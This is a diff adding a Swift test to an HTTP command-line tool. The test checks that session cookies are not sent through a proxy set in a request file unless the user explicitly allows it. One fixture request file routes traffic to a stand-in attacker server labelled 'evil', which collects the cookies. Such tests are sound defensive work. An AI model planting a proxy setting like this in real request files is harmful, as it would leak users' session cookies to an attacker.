@@ -173,6 +173,45 @@ import Testing
         #expect(run.end == .exit(2) && evil.take().isEmpty, "\(run.text)\(run.errors)")
     }
 
+    /// One run has one jar; and so has a request with `-b`.
+    @Test func `cookies go through the proxy of a file after a yes alone`() async throws {
+        let login = try LoopbackServer { _ in
+            [
+                .readHead,
+                .send(
+                    "HTTP/1.1 200 OK\r\nSet-Cookie: sid=c00kie-value; Max-Age=999\r\nContent-Length: 2\r\n"
+                        + "Connection: close\r\n\r\nok"),
+                .shutdown,
+            ]
+        }
+        try folder.lay([
+            "environments/e.yaml": "base: http://a.test\n", "a.yaml": "request: GET \(login.url)/login\n",
+            "b.yaml": "request: GET \(login.url)/me\noptions: {proxy: \"\(evilBase)\"}\n",
+        ])
+        #expect(try await folder.curlew("run", "b").end == .exit(0), "no cookie, no question")
+        #expect(evil.take().map { $0.values("Cookie") } == [[]])
+        #expect(try await folder.curlew("send", "b").end == .exit(0))
+        _ = evil.take()
+        for arguments in [["run", "a", "b"], ["run", "--limit", "1", "a", "b"]] {
+            let run = try await curlew(arguments)
+            let said = "\(run.text)\(run.errors)"
+            #expect(run.end == .exit(1) && said.contains("cookies that are kept here"), "\(said)")
+            #expect(evil.take().isEmpty)
+            let allowed = try await curlew(arguments + ["--allow", "kept:cookies"])
+            #expect(allowed.end == .exit(0), "\(allowed.text)\(allowed.errors)")
+            #expect(evil.take().map { $0.values("Cookie") } == [["sid=c00kie-value"]])
+        }
+        #expect(try await folder.curlew("send", "a", "-c", "jar").end == .exit(0))
+        let sent = try await folder.curlew("send", "b", "-b", "jar")
+        #expect(sent.end == .exit(2) && sent.errors.contains("cookies that are kept here"), "\(sent.errors)")
+        #expect(evil.take().isEmpty)
+        #expect(try await folder.curlew("send", "b", "-b", "jar", "--allow", "kept:cookies").end == .exit(0))
+        #expect(evil.take().map { $0.values("Cookie") } == [["sid=c00kie-value"]])
+        // A proxy that was typed is the person's own.
+        #expect(try await folder.curlew("send", "a", "-b", "jar", "-x", evilBase).end == .exit(0))
+        #expect(evil.take().count == 1)
+    }
+
     @Test func `a yes is for the scheme too, and for a certificate that is checked`() async throws {
         try folder.lay(["r.yaml": "request: GET https://h.test/x\nheaders: {X-Token: \"{{token}}\"}\n"])
         let secure = try await folder.curlew("send", "r")
